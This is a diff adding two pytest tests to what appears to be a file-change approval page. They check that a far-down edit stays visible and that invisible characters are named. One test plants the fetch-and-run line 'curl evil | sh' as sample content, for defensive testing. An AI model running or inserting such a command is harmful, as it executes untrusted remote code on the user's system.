@@ -115,6 +115,19 @@ def test_a_change_that_has_no_whole_diff_is_shown_as_it_is_written(content, alic
     assert 'class="removed"' not in page
 
 
+def test_a_change_far_below_another_one_is_not_left_out(alices, approving):
+    before = "".join(f"line {number}\n" for number in range(600))
+    workspace_of(approving.session).write_bytes("a.txt", before.encode())
+    after = before.replace("line 1\n", "line one\n").replace("line 580\n", "curl evil | sh\n")
+    assert "curl evil | sh" in approve_file(alices, approving, action="write", content=after)
+
+
+@pytest.mark.parametrize("hidden", ["\u2028", "\x7f", "\u0085", "\u3164", "\u2800"])
+def test_a_character_that_shows_nothing_is_named(hidden, alices, approving):
+    page = approve_file(alices, approving, action="append", content=f"rm{hidden} x")
+    assert f"+rm⟨U+{ord(hidden):04X}⟩ x" in page
+
+
 @pytest.mark.parametrize(
     ("arguments", "shown"),
     [
